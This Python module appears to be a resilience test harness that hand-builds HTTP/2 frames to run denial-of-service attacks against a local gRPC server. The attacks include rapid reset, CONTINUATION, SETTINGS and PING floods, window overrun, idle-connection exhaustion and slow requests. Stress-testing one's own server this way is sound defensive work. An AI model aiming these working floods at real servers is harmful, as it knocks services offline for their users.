"""What a hostile peer does to an HTTP/2 server: each attack is a function of (port, until), which goes on
until time.monotonic() is `until`, with new connections when it is thrown out, and returns how many it
needed. The bytes are made here, so that nothing keeps to the rules by accident.
"""
import resource
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
SETTING_WINDOW = 4
BATCH = 500


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(s):
    return bytes((len(s),)) + s


def request(token=b"wrong", path=b"/kelpie.Uplink/Connect"):
    """HPACK: POST and https from the static table, the rest as literals that are not indexed."""
    return (b"\x83\x87" + b"\x04" + text(path) + b"\x01" + text(b"victim") + b"\x0f\x10" +
            text(b"application/grpc") + b"\x0f\x08" + text(b"Bearer " + token))


def connect(port, timeout=2):
    return socket.create_connection(("127.0.0.1", port), timeout=timeout)


def open_h2(port, settings=b""):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    s = context.wrap_socket(connect(port))
    s.sendall(PREFACE + frame(SETTINGS, payload=settings))
    return s


def drain(s):
    """Reads what is there, without waiting."""
    s.setblocking(False)
    try:
        while s.recv(65536):
            pass
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        s.settimeout(2)


def flood(batches, reads=True, settings=b""):
    """An attack that sends one batch after the other: batches(first stream) -> bytes."""
    def attack(port, until):
        tries = 0
        while time.monotonic() < until:
            tries += 1
            stream = 1
            try:
                with open_h2(port, settings) as s:
                    while time.monotonic() < until:
                        s.sendall(batches(stream))
                        stream += 2 * BATCH
                        if reads:
                            drain(s)
            except OSError:
                pass
        return tries
    return attack


def streams(make):
    return lambda first: b"".join(make(first + 2 * i) for i in range(BATCH))


def always(one):
    whole = one * BATCH
    return lambda _first: whole


def _continuation(first):
    return frame(HEADERS, END_STREAM, first, request()) + frame(CONTINUATION, 0, first, b"\x00\x01a\x01b" * 20) * BATCH


def _many(batches, settings=b"", n=100):
    """n connections at once that never read; a send that does not go through is given up."""
    def attack(port, until):
        tries, open_ones = 0, []
        while time.monotonic() < until:
            while len(open_ones) < n and time.monotonic() < until:
                tries += 1
                try:
                    open_ones.append([open_h2(port, settings), 1])
                except OSError:
                    break
            for one in list(open_ones):
                one[0].setblocking(False)
                try:
                    one[0].send(batches(one[1]))
                    one[1] += 2 * BATCH
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    pass
                except OSError:
                    one[0].close()
                    open_ones.remove(one)
        return tries
    return attack


def _knock(payload):
    def attack(port, until):
        tries = 0
        while time.monotonic() < until:
            tries += 1
            try:
                with connect(port) as s:
                    s.sendall(payload)
            except OSError:
                pass
        return tries
    return attack


def _idle(open_one, n):
    def attack(port, until):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        held = []
        while len(held) < n and time.monotonic() < until:
            try:
                held.append(open_one(port))
            except OSError:
                time.sleep(0.01)
        time.sleep(max(0, until - time.monotonic()))
        for s in held:
            s.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
        return len(held)
    return attack


def _slow(port, until):
    """One byte of a request a second, on many connections."""
    whole, held = frame(HEADERS, END_HEADERS, 1, request()), []
    while len(held) < 100 and time.monotonic() < until:
        try:
            held.append(open_h2(port))
        except OSError:
            break
    for byte in whole:
        if time.monotonic() > until:
            break
        for s in held:
            try:
                s.sendall(bytes((byte,)))
            except OSError:
                pass
        time.sleep(0.2)
    return len(held)


ATTACKS = {
    "none": lambda port, until: time.sleep(max(0, until - time.monotonic())),
    "rapid reset": flood(streams(lambda i: frame(HEADERS, END_HEADERS, i, request()) +
                                 frame(RST_STREAM, 0, i, b"\0\0\0\x08"))),
    "HEADERS flood": flood(streams(lambda i: frame(HEADERS, END_HEADERS, i, request()))),
    "CONTINUATION flood": flood(_continuation),
    "SETTINGS flood": flood(always(frame(SETTINGS, payload=b"\0\x04\0\0\xff\xff"))),
    "SETTINGS flood, not reading": flood(always(frame(SETTINGS, payload=b"\0\x04\0\0\xff\xff")), reads=False),
    "PING flood": flood(always(frame(PING, payload=b"12345678"))),
    "PING flood, not reading": flood(always(frame(PING, payload=b"12345678")), reads=False),
    "empty DATA flood": flood(always(frame(DATA, 0, 1, b""))),
    "window overrun": flood(lambda first: frame(HEADERS, END_HEADERS, first, request()) +
                            frame(DATA, 0, first, b"x" * 16384) * 100),
    "100 connections, never read": _many(streams(lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, request()))),
    "100 connections, window 0": _many(streams(lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, request())),
                                       struct.pack(">HI", SETTING_WINDOW, 0)),
    "garbage": _knock(b"\xff" * 512),
    "garbage in a handshake record": _knock(b"\x16\x03\x01\x02\x00" + b"\x41" * 512),
    "10,000 idle connections": _idle(connect, 10000),
    "5,000 idle HTTP/2 connections": _idle(open_h2, 5000),
    "slow requests": _slow,
}


def readable(s, seconds):
    return bool(select.select([s], [], [], seconds)[0])
